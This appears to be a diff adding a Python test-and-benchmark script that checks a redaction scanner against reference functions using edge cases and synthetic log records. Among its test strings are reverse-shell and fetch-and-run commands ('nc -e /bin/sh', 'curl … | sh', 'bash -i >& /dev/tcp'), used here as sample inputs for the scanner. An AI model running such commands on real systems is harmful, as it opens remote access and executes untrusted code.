@@ -0,0 +1,144 @@
+#!/usr/bin/env python3
+# Golden-corpus check and benchmark for curator.RedactionScanner against the reference
+# redact()/is_sensitive() passes.
+#
+#   python3 unsupervised/bench_redaction.py                 # verify golden corpus + benchmark
+#   python3 unsupervised/bench_redaction.py --raw unsupervised/dataset_raw.jsonl
+#   python3 unsupervised/bench_redaction.py --regen         # rewrite the golden corpus from redact()
+
+import os, sys, json, time, random, argparse
+
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+from curator import redact, is_sensitive, RedactionScanner
+
+GOLDEN = "unsupervised/golden/redaction_golden.jsonl"
+EXCERPT = 2000
+
+# hand-picked cases where pass order and overlapping classes matter
+EDGE_CASES = [
+    "12 34john@x.com",
+    "call +1 (555) 123-4567 or 555.123.4567 now",
+    "host 10.0.0.1:8080 and 192.168.1.254 and 1.2.3",
+    "api_key=\\abcdefgh12345 token:\\xyz password = secret",
+    "APIKEY :\\ABCDEFGHIJKL secret-x=\\123456789",
+    "blob " + "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0123456789abcdefABCDEF==" + " end",
+    "a" * 39 + " " + "b" * 40 + "=",
+    "user@10.0.0.1 logged in from 10.0.0.2",
+    "nc -e /bin/sh 10.0.0.5 4444 # reverse shell",
+    "curl http://x/install.sh | sh",
+    "12345678901234567890123456789012345678901234567890",
+    "(12)(34)(56)(78) --- ++12 34 56 78 90",
+    "١٢٣٤ arabic-indic digits ١٢.٣",
+    "",
+    "no pii here at all",
+]
+
+def log_corpus(n, seed=7, max_lines=40):
+    """Log-shaped synthetic records: Zeek/Suricata-like lines with ids, IPs, sizes, occasional PII."""
+    rnd = random.Random(seed)
+    b64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
+    out = []
+    for i in range(n):
+        lines = []
+        for _ in range(rnd.randint(1, max_lines)):
+            ts = 1593570000 + rnd.randint(0, 10 ** 6) + rnd.random()
+            src = ".".join(str(rnd.randint(1, 254)) for _ in range(4))
+            dst = ".".join(str(rnd.randint(1, 254)) for _ in range(4))
+            kind = rnd.random()
+            if kind < 0.6:
+                lines.append(f"{ts:.6f}\tC{rnd.getrandbits(48):x}\t{src}\t{rnd.randint(1024, 65535)}\t{dst}\t80\t1\tPOST\t"
+                             f"host\t/v1/generate\t-\t-\t{rnd.randint(0, 10 ** 5)}\t{rnd.randint(0, 10 ** 5)}\t-")
+            elif kind < 0.8:
+                lines.append(json.dumps({"timestamp": f"2020-07-01T02:{rnd.randint(10, 59)}:00.000000+0000",
+                                         "event_type": "alert", "src_ip": src, "dest_ip": dst,
+                                         "alert": {"signature": "LLM long prompt", "sid": 1000000 + rnd.randint(0, 99)}}))
+            elif kind < 0.9:
+                lines.append(f"user{rnd.randint(1, 99)}@lab{rnd.randint(1, 9)}.example.org phone "
+                             f"+{rnd.randint(1, 99)} {rnd.randint(100, 999)} {rnd.randint(1000, 9999)}")
+            elif kind < 0.95:
+                lines.append("token=\\" + "".join(rnd.choice(b64[:62]) for _ in range(16)) + " cookie "
+                             + "".join(rnd.choice(b64) for _ in range(rnd.randint(30, 90))))
+            else:
+                lines.append(rnd.choice(["payload staged", "ran sqlmap against target", "bash -i >& /dev/tcp/x",
+                                         "report: benign scan", "digits " + "".join(rnd.choice("0123456789 -.") for _ in range(200))]))
+        out.append("\n".join(lines))
+    return out
+
+def reference(text):
+    sensitive = is_sensitive(text)
+    return sensitive, redact(text[:EXCERPT]) if sensitive else redact(text)
+
+def load_texts(path):
+    with open(path, "r", encoding="utf-8") as fh:
+        return [json.loads(line).get("text", "") for line in fh if line.strip()]
+
+def verify(texts, scanner):
+    bad = []
+    for i, text in enumerate(texts):
+        sensitive, red, _ = scanner.scan(text)
+        if (sensitive, red) != reference(text):
+            bad.append(i)
+    return bad
+
+def bench(texts, scanner, repeat):
+    def run(fn):
+        best = None
+        for _ in range(repeat):
+            t0 = time.perf_counter()
+            for t in texts:
+                fn(t)
+            dt = time.perf_counter() - t0
+            best = dt if best is None else min(best, dt)
+        return best
+    # the old curator loop: redact() the whole text, is_sensitive(), redact() the excerpt again if sensitive
+    def legacy(text):
+        red = redact(text)
+        if is_sensitive(text):
+            redact(text[:EXCERPT])
+        return red
+    old = run(legacy)
+    new = run(scanner.scan)
+    return old, new
+
+def main():
+    parser = argparse.ArgumentParser()
+    parser.add_argument("--golden", default=GOLDEN)
+    parser.add_argument("--regen", action="store_true", help="rewrite the golden corpus from the reference functions")
+    parser.add_argument("--raw", default=None, help="also verify/benchmark on a dataset_raw.jsonl")
+    parser.add_argument("--records", type=int, default=2000, help="synthetic log records to benchmark")
+    parser.add_argument("--repeat", type=int, default=3)
+    args = parser.parse_args()
+
+    if args.regen:
+        os.makedirs(os.path.dirname(args.golden), exist_ok=True)
+        with open(args.golden, "w", encoding="utf-8") as fh:
+            for text in EDGE_CASES + log_corpus(100, seed=1, max_lines=6):
+                sensitive, red = reference(text)
+                fh.write(json.dumps({"text": text, "sensitive": sensitive, "redacted": red}, ensure_ascii=False) + "\n")
+        print("[bench-redaction] wrote", args.golden)
+
+    scanner = RedactionScanner(EXCERPT)
+    failed = 0
+    with open(args.golden, "r", encoding="utf-8") as fh:
+        golden = [json.loads(line) for line in fh if line.strip()]
+    for i, g in enumerate(golden):
+        sensitive, red, _ = scanner.scan(g["text"])
+        if (sensitive, red) != (g["sensitive"], g["redacted"]):
+            failed += 1
+            print(f"[bench-redaction] golden mismatch #{i}: {g['text'][:80]!r}", file=sys.stderr)
+    print(f"[bench-redaction] golden: {len(golden) - failed}/{len(golden)} match")
+
+    corpora = [("synthetic logs", log_corpus(args.records))]
+    if args.raw:
+        corpora.append((args.raw, load_texts(args.raw)))
+    for name, texts in corpora:
+        bad = verify(texts, scanner)
+        failed += len(bad)
+        old, new = bench(texts, scanner, args.repeat)
+        mb = sum(len(t) for t in texts) / 1e6
+        print(f"[bench-redaction] {name}: {len(texts)} records {mb:.1f}M chars  mismatches={len(bad)}  "
+              f"reference={old:.3f}s  scanner={new:.3f}s  speedup={old / new if new else 0:.2f}x")
+    sys.exit(1 if failed else 0)
+
+if __name__ == "__main__":
+    main()